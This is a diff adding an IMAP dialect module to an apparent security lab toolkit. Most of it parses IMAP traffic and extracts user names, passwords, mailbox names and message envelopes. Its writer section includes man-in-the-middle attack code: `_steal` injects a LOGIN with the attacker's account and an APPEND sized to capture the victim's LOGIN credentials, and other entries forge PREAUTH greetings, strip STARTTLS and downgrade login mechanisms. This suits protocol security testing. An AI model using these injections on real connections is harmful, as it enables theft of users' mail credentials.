@@ -1,0 +1,224 @@
+"""IMAP: RFC 9051 and 3501, with literals that do not wait (RFC 7888), SASL-IR (RFC 4959) and IDLE (RFC 2177).
+
+What the words mean is `imap_words`.
+"""
+
+import re
+
+from labkit.dialects.base import SERVER, Dialect, Phrase
+from labkit.dialects.framing.tagged_lines import CREDENTIAL, LITERAL, TaggedLineReader, TaggedLines
+from labkit.dialects.imap_words import CAPABILITIES, COMMANDS, GREETINGS, REPLIES, explain
+from labkit.dialects.reader import COMMAND
+from labkit.dialects.writing import (
+    Credentials,
+    Injected,
+    Writer,
+    counted_on,
+    first_word,
+    lines,
+    listed,
+    tagged_command,
+    willing,
+)
+
+_COMMAND = re.compile(rb"([^\s*+]+) +((?:UID +)?[A-Z]+)", re.IGNORECASE)
+_DONE = re.compile(rb"DONE\s*$", re.IGNORECASE)
+_BRINGS_MAIL = {"APPEND", "REPLACE", "UID REPLACE"}
+_MAILBOX_AS_LITERAL = re.compile(rb"\S+ +(?:APPEND|(?:UID +)?REPLACE +\S+) +\{", re.IGNORECASE)
+_UNTAGGED = re.compile(rb"\* +(?:\d+ +)?([A-Za-z]+)")
+_TAGGED = re.compile(rb"([^\s*+]+) +(OK|NO|BAD)\b", re.IGNORECASE)
+_ONE_LINE = re.compile(rb"\+|\S+ +(?:OK|NO|BAD|BYE|PREAUTH)\b", re.IGNORECASE)
+"""Responses that end in text for people."""
+
+
+_LINES = TaggedLines(
+    after_invitation={"STARTTLS": COMMAND, "COMPRESS": COMMAND, "AUTHENTICATE": CREDENTIAL},
+    go_aheads={"STARTTLS": "OK"},
+    compresses={"COMPRESS": "OK"},
+)
+
+
+class _Reader(TaggedLineReader):
+    """Follows one IMAP conversation. See `labkit.dialects.base.Reader`."""
+
+    _lines = _LINES
+    _longest = 1 << 20
+    """The answer to SEARCH is one line, however many messages fit."""
+
+    def _named(self, line: bytes) -> tuple[bytes, str]:
+        match = _COMMAND.match(line)
+        return (match[1], _verb(match[2])) if match else (b"", _without_tag(line))
+
+    def _has_mail(self, line: bytes, first: bool) -> bool:
+        return self._verb in _BRINGS_MAIL and not (first and _MAILBOX_AS_LITERAL.match(line))
+
+    def _is_one_line(self, response: bytes) -> bool:
+        return _ONE_LINE.match(response) is not None
+
+    def _response(self, data: bytes, has_literals: bool) -> Phrase:
+        if data.startswith(b"+"):
+            return Phrase(SERVER, "challenge" if self._invite() else "reply", "+", data)
+        if match := _UNTAGGED.match(data):
+            return self._untagged(match[1].decode().upper(), data, has_literals)
+        if match := _TAGGED.match(data):
+            status = match[2].decode().upper()
+            return Phrase(SERVER, self._conclude(match[1], status), status, data)
+        return Phrase(SERVER, "unknown", "unknown", data)
+
+    def _beginning(self, data: bytes, has_literals: bool) -> Phrase:
+        match = _UNTAGGED.match(data)
+        name = match[1].decode().upper() if match else ""
+        return (
+            self._untagged(name, b"", has_literals) if name in REPLIES else Phrase(SERVER, "reply", "unfinished", b"")
+        )
+
+    def _untagged(self, name: str, data: bytes, has_literals: bool) -> Phrase:
+        if name in GREETINGS and not self._spoken:
+            return Phrase(SERVER, "greeting", name, data)
+        if name == "FETCH" and has_literals:
+            return Phrase(SERVER, "message", name, data)
+        return Phrase(SERVER, "untagged", name if name in REPLIES else "unknown response", data)
+
+
+def _verb(text: bytes) -> str:
+    verb = " ".join(text.decode().upper().split())
+    return verb if verb in COMMANDS else "unknown command"
+
+
+def _without_tag(line: bytes) -> str:
+    return "DONE" if _DONE.match(line) else "unknown command"
+
+
+def _messages(data: bytes) -> list[tuple[int, int]]:
+    """The literals of a FETCH response; the one of APPEND without the end of its line."""
+    if not _UNTAGGED.match(data):
+        return [(0, len(data.removesuffix(b"\n").removesuffix(b"\r")))]
+    found = []
+    end = data.find(b"\n") + 1
+    while end and (literal := LITERAL.search(data, max(0, end - 25), end)):
+        start, behind = end, end + int(literal[1])
+        found.append((start, min(behind, len(data))))
+        end = data.find(b"\n", behind) + 1
+    return found
+
+
+_GREETING = re.compile(rb"\* (?:OK|PREAUTH|BYE)[ \r]", re.IGNORECASE)
+_FIRST = re.compile(rb"[^\s*+]+ (?:CAPABILITY|STARTTLS|LOGIN|AUTHENTICATE|ID|NOOP)\b", re.IGNORECASE)
+
+
+def _recognises(server: bytes, client: bytes) -> bool:
+    return _GREETING.match(server) is not None or (not server and _FIRST.match(client) is not None)
+
+
+# ---- what commands and responses tell
+
+
+def _string(name: str, behind: str = r"\s*$") -> str:
+    """An atom, a quoted string or a literal (RFC 9051 §4), as a group; `behind` is what may follow a literal."""
+    return (
+        rf'(?:"|\{{\d+\+?\}}\r?\n)?'
+        rf'(?P<{name}>(?<=")(?:[^"\\\r\n]|\\.)*|(?<=\n)[^\r\n]*?(?={behind})|[^\s"{{()*%]+)"?'
+    )
+
+
+_PASSWORD = r"\s+(?:\S+\s*$|\{\d|\")"
+_MAILBOX = r"[^*\s]\S* +[A-Z]+ +" + _string("mailbox")
+_ADDRESSES = r"(?:NIL|\(\(.*?\)\))"
+_QUOTED = r'(?:NIL|"(?:[^"\\]|\\.)*")'
+
+_DISCLOSES = {
+    "LOGIN": rf"\S+ +LOGIN +{_string('user_name', _PASSWORD)}(?: +{_string('password')})?",
+    "LIST": r"\* +LIST +\([^)]*\) +\S+ +" + _string("mailbox"),
+    "LSUB": r"\* +LSUB +\([^)]*\) +\S+ +" + _string("mailbox"),
+    "STATUS": r"\S+ +STATUS +" + _string("mailbox", r"\s*\("),
+    "APPEND": r"\S+ +APPEND +" + _string("mailbox", r"\s+[({\"]"),
+    "RENAME": r"\S+ +RENAME +" + _string("mailbox", r"\s") + " +" + _string("new_mailbox"),
+    "COPY": r"\S+ +COPY +\S+ +" + _string("mailbox"),
+    "MOVE": r"\S+ +MOVE +\S+ +" + _string("mailbox"),
+    "UID COPY": r"\S+ +UID +COPY +\S+ +" + _string("mailbox"),
+    "UID MOVE": r"\S+ +UID +MOVE +\S+ +" + _string("mailbox"),
+    "SEARCH": r"[^*\s]\S* +SEARCH +(?P<search>[^\r\n]+)",
+    "UID SEARCH": r"\S+ +UID +SEARCH +(?P<search>[^\r\n]+)",
+    "ID": r"\S+ +ID +\((?P<program>[^)]+)\)",
+    "FETCH": (
+        rf'\* +\d+ +FETCH +.*?ENVELOPE +\({_QUOTED} +(?:NIL|"(?P<subject>(?:[^"\\]|\\.)*)") +'
+        rf"(?:NIL|\((?P<from>\(.*?\))\)) +{_ADDRESSES} +{_ADDRESSES} +(?:NIL|\((?P<to>\(.*?\))\))"
+    ),
+    **dict.fromkeys(("SELECT", "EXAMINE", "CREATE", "DELETE", "SUBSCRIBE", "UNSUBSCRIBE"), _MAILBOX),
+}
+
+
+def _steal(tag: str, account: Credentials, login: int) -> bytes:
+    """The size of the message has to be known before: what the victim says up to the end of its LOGIN."""
+    first = counted_on(tag)
+    second = counted_on(first)
+    third = counted_on(second)
+    swallowed = len(f"{first} CAPABILITY\r\n{second} LOGIN ") + login
+    return (
+        tagged_command("CAPABILITY", first)
+        + tagged_command(f"LOGIN {account.user} {account.password}", second)
+        + tagged_command(f"APPEND INBOX {{{swallowed}}}", third)
+    )
+
+
+def _preauth(greeting: bytes) -> bytes:
+    return b"* PREAUTH" + greeting[greeting.find(b" ", 2) :]
+
+
+def _corner(phrase: Phrase) -> bytes | None:
+    """A greeting that makes no sense."""
+    return b"* HELLO " + phrase.data[phrase.data.find(b" ", 2) + 1 :] if phrase.kind == "greeting" else None
+
+
+WRITER = Writer(
+    command=tagged_command,
+    replies=lines(
+        done="{tag} OK {text}",
+        refused="{tag} BAD {text}",
+        later="{tag} NO {text}",
+        odd="+ {text}",
+        go_ahead="{tag} OK {text}",
+    ),
+    willing=willing({"APPEND": b"+ OK\r\n"}, b"{tag} OK\r\n"),
+    login=lambda user, password, tag: tagged_command(f"LOGIN {user} {password}", tag),
+    capabilities=listed(
+        rb"(?P<head>\* CAPABILITY |[^\r\n]*?\[CAPABILITY )(?P<list>[^\]\r\n]*)(?P<tail>[^\n]*\n)",
+        lambda text: tuple(text.split()),
+        " ".join,
+        "* CAPABILITY IMAP4rev1 {list}\r\n{tag} OK CAPABILITY completed\r\n",
+        unasked=True,
+    ),
+    tag=first_word,
+    next_tag=counted_on,
+    login_names=frozenset({"AUTH", "LOGINDISABLED"}),
+    clear_login=("AUTH=PLAIN",),
+    weaker_login=("AUTH=LOGIN",),
+    upload="APPEND",
+    older=("IMAP4",),  # RFC 1730 knows no STARTTLS
+    preauth=_preauth,
+    corner=_corner,
+    injected=Injected("NOOP", r"mallory "),
+    steal=_steal,
+)
+
+IMAP = Dialect(
+    name="IMAP",
+    source="RFC 9051, RFC 3501",
+    explicit_ports=(143,),
+    implicit_ports=(993,),
+    ask="CAPABILITY",
+    token="STARTTLS",
+    upgrade="STARTTLS",
+    go_ahead="OK",
+    messages=_messages,
+    sasl=r"\S+ +AUTHENTICATE +(?P<mechanism>\S+)(?: +(?P<initial>\S+))?",
+    reader=_Reader,
+    writes=WRITER,
+    recognises=_recognises,
+    explain=explain,
+    tagged=True,
+    commands=COMMANDS,
+    replies=REPLIES,
+    capabilities=CAPABILITIES,
+    discloses=_DISCLOSES,
+)
